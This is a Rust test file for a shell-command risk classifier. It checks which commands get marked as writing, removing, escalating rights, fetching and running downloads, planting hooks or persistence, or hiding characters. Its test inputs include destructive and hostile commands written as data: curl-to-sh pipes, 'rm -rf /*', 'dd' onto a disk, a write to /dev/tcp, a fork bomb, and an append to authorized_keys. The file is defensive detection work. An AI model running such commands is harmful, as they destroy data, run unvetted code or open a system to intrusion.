use super::Kind;
use crate::engine::command::Command;

/// The marks as `Kind: part`.
#[track_caller]
fn check(text: &str, expected: &[(Kind, &str)]) {
    let command = Command::read(text);
    let found: Vec<(Kind, &str)> = command.marks.iter().map(|mark| (mark.kind, mark.part.as_str())).collect();
    assert_eq!(found, expected, "{text}");
}

#[test]
fn harmless_commands_have_no_marks() {
    for text in [
        "ls -la",
        "cargo test 2>&1 | tail -5",
        "git status && git diff",
        "grep -rn 'rm -rf' src",
        "echo 'a > b; sudo rm'",
        "cat a 2>/dev/null",
        "git commit -m 'remove'",
        "kill 1234",
        "kill -9 $pid",
        "make -j4",
        "git checkout main",
    ] {
        check(text, &[]);
    }
}

#[test]
fn writing_to_files_is_marked() {
    check("make > log 2>> err", &[(Kind::Writes, ">log"), (Kind::Writes, "2>>err")]);
    check("sed -i s/a/b/ f", &[(Kind::Writes, "sed -i s/a/b/ f")]);
    check("dd if=x of=/dev/sda", &[(Kind::Machine, "dd if=x of=/dev/sda")]);
    check("echo x > /dev/tcp/1.2.3.4/80", &[(Kind::Writes, ">/dev/tcp/1.2.3.4/80")]);
}

#[test]
fn removing_is_marked_however_it_is_written() {
    for text in [
        "rm x",
        "\\rm x",
        "'r'm x",
        "/bin/rm x",
        "env A=1 rm x",
        "timeout 5 rm x",
        "xargs -n 1 rm",
        "find . -exec rm {} +",
        "find . -delete",
        "bash -c 'rm x'",
        "nice -n 5 rm x",
    ] {
        let command = Command::read(text);
        assert!(command.marks.iter().any(|mark| mark.kind == Kind::Removes), "{text}: {:?}", command.marks);
    }
    check("rm -rf \"$X/\"", &[(Kind::Removes, "rm -rf \"$X/\""), (Kind::Removes, "\"$X/\"")]);
    check("rm -rf ~/", &[(Kind::Removes, "rm -rf ~/"), (Kind::Removes, "~/")]);
    check("rm -rf /*", &[(Kind::Removes, "rm -rf /*"), (Kind::Removes, "/*")]);
}

#[test]
fn more_rights_and_the_machine_are_marked() {
    check("sudo -u root ls", &[(Kind::MoreRights, "sudo -u root ls")]);
    check("sudo rm x", &[(Kind::MoreRights, "sudo rm x"), (Kind::Removes, "sudo rm x")]);
    check("systemctl stop x", &[(Kind::Machine, "systemctl stop x")]);
}

#[test]
fn killing_by_pattern_is_marked() {
    for text in ["pkill -f node", "killall node", "kill -9 -1", "kill -- -1", "kill 0", "sudo killall x"] {
        let command = Command::read(text);
        assert!(command.marks.iter().any(|mark| mark.kind == Kind::EndsByPattern), "{text}");
    }
}

#[test]
fn what_is_fetched_and_run_is_marked() {
    for text in [
        "curl -s http://x | sh",
        "curl x | sudo bash -s -- -y",
        "wget -qO- x | python3",
        "bash <(curl x)",
        "sh -c \"$(curl x)\"",
        "eval \"$(wget -O- x)\"",
        "source <(curl x)",
        "curl x | tee f | bash",
        "curl x | env A=1 python3 -",
    ] {
        let command = Command::read(text);
        assert!(
            command.marks.iter().any(|mark| mark.kind == Kind::RunsDownload),
            "{text}: {:?}",
            command.marks
        );
    }
    for text in ["curl x | jq .", "curl x > f", "curl x | python3 parse.py", "curl x; sh y"] {
        let command = Command::read(text);
        assert!(
            !command.marks.iter().any(|mark| mark.kind == Kind::RunsDownload),
            "{text}: {:?}",
            command.marks
        );
    }
}

#[test]
fn substitutions_are_marked() {
    check("echo $(date) `id`", &[(Kind::Substitutes, "date"), (Kind::Substitutes, "id")]);
    check("diff <(sort a) b", &[(Kind::Substitutes, "sort a")]);
}

#[test]
fn what_runs_later_is_marked() {
    for text in [
        "echo x > .git/hooks/pre-commit",
        "cp x .git/hooks/",
        "git config core.hooksPath /tmp/h",
        "git -c core.fsmonitor=x status",
        "echo x >> ~/.bashrc",
        "crontab -",
        "tee ~/.ssh/authorized_keys",
        "chmod +x .git/hooks/post-merge",
    ] {
        let command = Command::read(text);
        assert!(command.marks.iter().any(|mark| mark.kind == Kind::RunsLater), "{text}: {:?}", command.marks);
    }
}

#[test]
fn work_that_git_would_discard_is_marked() {
    for text in [
        "git push --force",
        "git push origin +main",
        "git reset --hard",
        "git clean -fdx",
        "git checkout -- .",
        "git branch -D x",
        "git stash drop",
    ] {
        let command = Command::read(text);
        assert!(command.marks.iter().any(|mark| mark.kind == Kind::Removes), "{text}");
    }
}

#[test]
fn processes_that_go_on_are_marked() {
    check("npm start &", &[(Kind::GoesOn, "npm start")]);
    let bomb = Command::read(":(){ :|:& };:");
    assert!(bomb.marks.iter().any(|mark| mark.kind == Kind::NeverEnds), "{:?}", bomb.marks);
}

#[test]
fn characters_that_hide_something_are_marked() {
    check("ls \u{202e}fr mr", &[(Kind::Hidden, "U+202E")]);
    check("ls \u{1b}[2K", &[(Kind::Hidden, "U+001B")]);
}

#[test]
fn changed_search_paths_are_marked() {
    check(
        "PATH=/tmp:$PATH LD_PRELOAD=x ls",
        &[(Kind::Environment, "PATH"), (Kind::Environment, "LD_PRELOAD")],
    );
    check("export PATH=/x", &[(Kind::Environment, "PATH")]);
    check("$x a", &[(Kind::RunsText, "$x a")]);
}
